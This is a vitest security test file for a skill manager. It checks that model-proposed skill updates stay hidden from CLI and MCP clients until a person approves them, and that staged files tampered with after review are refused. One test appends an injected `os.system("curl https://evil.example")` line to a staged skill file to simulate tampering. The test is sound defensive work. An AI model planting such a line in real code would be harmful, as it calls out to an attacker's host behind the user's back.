import { appendFileSync, existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { ensureBuilt } from '../support/build'
import { callTool, keychainReady, text } from '../support/mcp'
import {
  closedAfterEach,
  pendingRequests,
  serveWithAgent,
  skilldockJson,
  skilldockRun,
  stateOf,
} from './support/processes'
import { proposedEcho } from './support/proposals'

/**
 * The attack: a proposed update (an optimize winner, written by a model or handed in as a variant
 * file) reaches agents before a person approved it, or is changed after the person reviewed it.
 * While the request waits, every process (CLI, a running `serve`, its MCP clients) must see and run
 * the approved version only; approving must swap in exactly what was reviewed.
 */

const { children, clients } = closedAfterEach()

beforeAll(() => ensureBuilt(), 300_000)

/** What a separate CLI process serves of echo: its description, the prompt block, and a call. */
function expectApprovedOnly(home: string, library: string): void {
  const shown = skilldockJson<{ state: string; description: string }>(home, 'show', 'echo')
  expect(shown.state).toBe('active')
  expect(shown.description).not.toContain('PROPOSED-7Q')
  expect(skilldockRun(home, 'prompt').stdout).not.toContain('PROPOSED-7Q')
  expect(readFileSync(join(library, 'SKILL.md'), 'utf8')).not.toContain('PROPOSED-7Q')
  const call = skilldockRun(home, 'call', 'echo', 'echo', '--args', '{"text":"still here"}')
  expect(call.code).toBe(0)
  expect(call.stdout).toContain('still here')
}

describe('a proposed update waiting for approval', { timeout: 300_000 }, () => {
  it('is neither shown nor run by any CLI process until approved', () => {
    const { home, library, approvalId } = proposedEcho()
    expect(pendingRequests(home).map((r) => r.id)).toEqual([approvalId])
    expectApprovedOnly(home, library)
    expect(stateOf(home, 'echo')).toBe('active')
  })

  it('changed after the request was made: approving refuses it and the approved version stays', () => {
    const { home, library, approvalId } = proposedEcho()
    const staged = join(home, 'staged', 'echo')
    expect(readFileSync(join(staged, 'SKILL.md'), 'utf8')).toContain('PROPOSED-7Q')
    // Someone slips a line into the staged files after the scan and the person's review.
    appendFileSync(join(staged, 'skill.py'), '\nimport os; os.system("curl https://evil.example")\n')

    const approve = skilldockRun(home, 'approve', approvalId)
    expect(approve.code).toBe(1)
    expect(approve.stderr).toContain('changed (or went) after this request was made')
    expect(readFileSync(join(library, 'skill.py'), 'utf8')).not.toContain('evil.example')
    expectApprovedOnly(home, library)
    // The person can still turn it down; the staged files go with it.
    expect(skilldockRun(home, 'reject', approvalId, '--reason', 'tampered').code).toBe(0)
    expect(existsSync(staged)).toBe(false)
    expectApprovedOnly(home, library)
  })

  // MCP clients authenticate with a token kept in the OS keychain (run under with-keyring.sh).
  it.runIf(keychainReady)(
    'a running serve offers its MCP clients the approved version only, until a person approves',
    async () => {
      const { home, library, approvalId } = proposedEcho()
      const { client } = await serveWithAgent(home, { children, clients })

      const read = await callTool(client, 'skill_read', { name: 'echo' })
      expect(read.isError).toBeFalsy()
      expect(text(read)).not.toContain('PROPOSED-7Q')
      const found = await callTool(client, 'skills_search', { query: 'parrot repeat sentence' })
      expect(text(found)).not.toContain('PROPOSED-7Q')
      const prompts = (await client.listPrompts()).prompts
      expect(JSON.stringify(prompts)).not.toContain('PROPOSED-7Q')
      const file = await callTool(client, 'skill_read_file', { name: 'echo', path: 'SKILL.md' })
      expect(text(file)).not.toContain('PROPOSED-7Q')
      const called = await callTool(client, 'skill_call', {
        skill: 'echo',
        tool: 'echo',
        arguments: { text: 'served' },
      })
      expect(called.isError).toBeFalsy()
      expect(text(called)).toContain('served')
      expectApprovedOnly(home, library)

      // Control: once approved (another process), the same client is offered the new version.
      expect(skilldockRun(home, 'approve', approvalId).code).toBe(0)
      await expect
        .poll(async () => text(await callTool(client, 'skill_read', { name: 'echo' })), { timeout: 30_000 })
        .toContain('PROPOSED-7Q')
      const after = await callTool(client, 'skill_call', {
        skill: 'echo',
        tool: 'echo',
        arguments: { text: 'after' },
      })
      expect(text(after)).toContain('after')
      expect(stateOf(home, 'echo')).toBe('active')
    },
  )
})
